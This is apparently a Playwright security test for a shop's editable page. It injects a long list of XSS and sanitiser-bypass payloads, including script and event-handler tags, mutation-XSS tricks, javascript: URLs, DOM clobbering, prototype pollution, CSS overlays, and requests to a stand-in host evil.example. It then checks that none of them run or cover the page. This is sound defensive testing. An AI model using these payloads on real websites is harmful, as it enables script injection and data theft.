import { expect, test } from '../../support/fixtures.ts'

const PAGES = 'modifiable_page_content'
const BODAS = { column: 'page_slug', value: 'bodas' }
/** Origin that must never be requested. */
const ABROAD = 'https://evil.example'
/** Script that every attack tries to run. */
const RUN = 'globalThis.broken=1'

const HTML = [
  `<script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${ABROAD}/pixel.gif" srcset="${ABROAD}/2x 2x">`,
  `<svg onload="${RUN}"><script>${RUN}</script><use href="${ABROAD}/a.svg#b"></use></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.broken=1</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}></style></mglyph></form>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<textarea></textarea><img src=x onerror="${RUN}"></textarea>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<select><option><style></option></select><img src=x onerror=${RUN}></style>`,
  `<p onclick="${RUN}" onmouseover="${RUN}" onfocus="${RUN}" tabindex=1 autofocus>manejadores</p>`,
  `<details open ontoggle="${RUN}">detalle</details>`,
  `<marquee onstart="${RUN}">marquesina</marquee>`,
  `<video src=x onerror="${RUN}"></video><audio src=x onerror="${RUN}"></audio>`,
  `<iframe src="javascript:parent.broken=1"></iframe><iframe src="${ABROAD}/frame"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="${ABROAD}/x.swf">`,
  `<base href="${ABROAD}/"><meta http-equiv="refresh" content="0;url=${ABROAD}/"><link rel="stylesheet" href="${ABROAD}/a.css">`,
  `<style>*{display:none!important}@import url(${ABROAD}/b.css)</style>`,
  `<form action="${ABROAD}/take" id="location"><input name="attributes" autofocus onfocus="${RUN}"><button>enviar</button></form>`,
  `<a id="document" name="cookie">x</a><p id="root">y</p><img name="body"><a name="currentScript">z</a>`,
  `<a href="javascript:${RUN}">trampa 1</a>`,
  `<a href="JaVaScRiPt:${RUN}">trampa 2</a>`,
  `<a href="java&#x09;script:${RUN}">trampa 3</a>`,
  `<a href="&#1;javascript:${RUN}">trampa 4</a>`,
  `<a href="javascript&colon;${RUN}">trampa 5</a>`,
  `<a href="data:text/html,<script>opener.broken=1</script>" target="_blank">trampa 6</a>`,
  `<a href="vbscript:${RUN}">trampa 7</a>`,
  `<a href="view-source:javascript:${RUN}">trampa 8</a>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>trampa 9</text></a></svg>`,
  `<p style="background:url(${ABROAD}/css.png);list-style-image:url(${ABROAD}/l.png);cursor:url(${ABROAD}/c.cur),auto">estilo</p>`,
  `<p style="position:fixed;inset:0;z-index:99999;background:red;width:100vw;height:100vh">tapadera</p>`,
  `<p style="margin-top:-9999px;transform:translateY(-500px) scale(9);font-size:9000px;float:left">salto</p>`,
  `<p style="font-size:80px"><b style="font-size:9em"><b style="font-size:9em"><b style="font-size:900%">grande</b></b></b></p>`,
  `<p style="position:fi/**/xed;position:\\66ixed;behavior:url(${ABROAD}/b.htc)">escapes</p>`,
  `<p class="visually-hidden" data-mode="dark" slot="x" is="x-y" role="alertdialog" aria-modal="true">clases</p>`,
  `<p contenteditable draggable=true popover id=p>editable</p><button popovertarget=p>abrir</button>`,
  `<table background="${ABROAD}/t.png"><td colspan=999999 rowspan=999999 background="${ABROAD}/d.png">celda</table>`,
  `<dialog open>diálogo</dialog><portal src="${ABROAD}/"></portal><frameset><frame src="${ABROAD}/"></frameset>`,
  `<p title="<!--"><!-- --!><img src=x onerror=${RUN}> -->comentario</p>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]><?xml-stylesheet href="${ABROAD}/x.xsl"?>`,
  `${'<div>'.repeat(3_000)}hondo`,
  `${'<b><i>'.repeat(1_500)}enredo`,
  `</div></article></main><header>suelto</header><h1>otro título</h1>`,
  `<custom-element onclick="${RUN}"><template shadowrootmode="open"><script>${RUN}</script></template></custom-element>`,
]

const COVER = {
  position: 'fixed',
  inset: 0,
  zIndex: 99_999,
  transform: 'translateY(-900px)',
  margin: '-900px',
  width: '900vw',
  height: '900vh',
  padding: '900%',
  fontSize: '9000px',
  border: '9000px solid red',
  backgroundColor: `red;background-image:url(${ABROAD}/bg.png)`,
  backgroundImage: `url(${ABROAD}/bg2.png)`,
  display: 'contents',
  content: 'url(x)',
}
const link = (url: unknown, target: unknown = '_self') => ({
  type: 'button',
  text: 'trampa',
  action: { type: 'link', url, target },
})
const OTHERS = [
  null,
  7,
  'text',
  [],
  {},
  { type: { toString: 'x' } },
  { type: 'text', content: { html: '<img src=x onerror=1>' } },
  { type: 'text', content: 'tapadera', settings: COVER },
  {
    type: 'text',
    content: 'renglón',
    settings: { display: 'inline', padding: '900px 0', backgroundColor: 'red' },
  },
  { type: 'text', content: '<p>alto</p>'.repeat(40), settings: { height: 1 } },
  { type: 'image', src: `javascript:${RUN}`, alt: '"><script>broken=1</script>' },
  {
    type: 'image',
    src: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
    settings: COVER,
  },
  {
    type: 'image',
    src: `x" onerror="${RUN}`,
    settings: { width: `1px" onload="${RUN}`, objectFit: 'cover;x' },
  },
  { type: 'video', src: `javascript:${RUN}` },
  { type: 'video', src: 'data:text/html,<script>parent.broken=1</script>' },
  {
    type: 'video',
    src: `https://www.youtube.com.evil.example/watch?v=aqz-KE-bpKQ"><script>`,
    settings: { ...COVER, autoPlay: 'yes' },
  },
  link(`javascript:${RUN}`),
  link(` \u0001java\nscript:${RUN}`),
  link('data:text/html,<script>opener.broken=1</script>', '_blank'),
  link(`vbscript:${RUN}`, '_top'),
  link({ toString: 'javascript:1' }),
  { type: 'button', text: { a: 1 }, action: { type: 'alert', message: { b: 2 } } },
  {
    type: 'button',
    text: '<img src=x onerror=broken=1>',
    action: { type: 'alert', message: `<img src=x onerror=${RUN}>` },
    settings: COVER,
  },
  { type: '__proto__', settings: { __proto__: COVER }, id: '__proto__' },
  { id: 'mismo', type: 'constructor' },
  { id: 'mismo', type: 'button', action: [] },
]

/** Readable text between every two attacks. */
const elements = [...HTML.map((content) => ({ type: 'text', content })), ...OTHERS].flatMap(
  (hostile, index) => [hostile, { id: 'mismo', type: 'text', content: `<p>Párrafo bueno ${index + 1}.</p>` }],
)

test(
  'a hostile page runs nothing, asks nobody and covers nothing',
  { tag: '@core' },
  async ({ visitor, admin, shop }) => {
    const { page, context } = visitor
    const events: string[] = []
    const notify = (what: string) => void events.push(what)
    page.on('dialog', (dialog) => {
      notify(`dialog ${dialog.message()}`)
      void dialog.dismiss()
    })
    page.on('pageerror', ({ message }) => notify(`error ${message}`))
    context.on('request', (request) => {
      const url = request.url()
      // The video of a look-alike host is an ordinary video, requested as one.
      const isFilm = request.resourceType() === 'media'
      if (!url.startsWith(shop.url) && !/^(?:data|blob):/.test(url) && !isFilm) notify(`request ${url}`)
    })
    await context.route(
      (url) => url.hostname.includes('evil'),
      (route) => route.abort(),
    )
    await admin.change(PAGES, BODAS, {
      title: '<img src=x onerror=broken=1>',
      content_structure: { settings: { backgroundColor: `#fff;position:fixed`, __proto__: 1 }, elements },
    })
    await visitor.visit('/modif/bodas')
    const product = page.getByRole('article')
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(['<img src=x onerror=broken=1>'])
    for (const scheme of ['javascript', 'vbscript', 'data'])
      await expect(product.locator(`[href^="${scheme}" i], [src^="${scheme}:text" i]`)).toHaveCount(0)
    await expect(
      product.locator(
        'script, style, iframe, object, embed, form, input, svg:not([aria-hidden]), math, base, meta, link, template, [id], [name], [onclick], [onerror], [data-mode], [contenteditable], [popover], [tabindex], [is], [slot]',
      ),
    ).toHaveCount(0)

    // Every good paragraph is readable: rendered, with size, and not covered.
    const good = product.getByText(/^Párrafo bueno \d+\.$/)
    await expect(good).toHaveCount(HTML.length + OTHERS.length)
    const unreadable = await good.evaluateAll((paragraphs) => {
      const found: string[] = []
      for (const paragraph of paragraphs) {
        paragraph.scrollIntoView({ block: 'center', behavior: 'instant' })
        const { left, top, width, height } = paragraph.getBoundingClientRect()
        const hit = document.elementFromPoint(left + 20, top + height / 2)
        if (width < 100 || height < 12 || height > 60 || hit !== paragraph)
          found.push(
            `${paragraph.textContent} ${width}×${height} under ${hit?.outerHTML.slice(0, 80) ?? 'nothing'}`,
          )
      }
      return found
    })
    expect(unreadable).toEqual([])

    // Navigation works from every position.
    const header = page.getByRole('banner')
    for (const trap of await product.getByText(/^trampa/).all())
      await trap.click({ force: true, timeout: 2_000 })
    await product.getByText('manejadores').click()
    const covered = await header.evaluate((banner) => {
      const { left, right, top, bottom } = banner.getBoundingClientRect()
      return Array.from({ length: 40 }, (_, step) => {
        const hit = document.elementFromPoint(left + ((right - left) * (step + 0.5)) / 40, (top + bottom) / 2)
        return hit !== null && !banner.contains(hit) && !hit.contains(banner)
      }).filter(Boolean).length
    })
    expect(covered).toBe(0)
    await expect(page).toHaveURL('/modif/bodas')
    await page.getByRole('button', { name: '<img src=x onerror=broken=1>' }).click()
    await expect(page.getByRole('dialog')).toContainText('<img src=x')
    await page.getByRole('button', { name: 'Entendido' }).click()
    expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false)
    expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(
      0,
    )
    expect(context.pages()).toHaveLength(1)
    expect(events).toEqual([])
  },
)
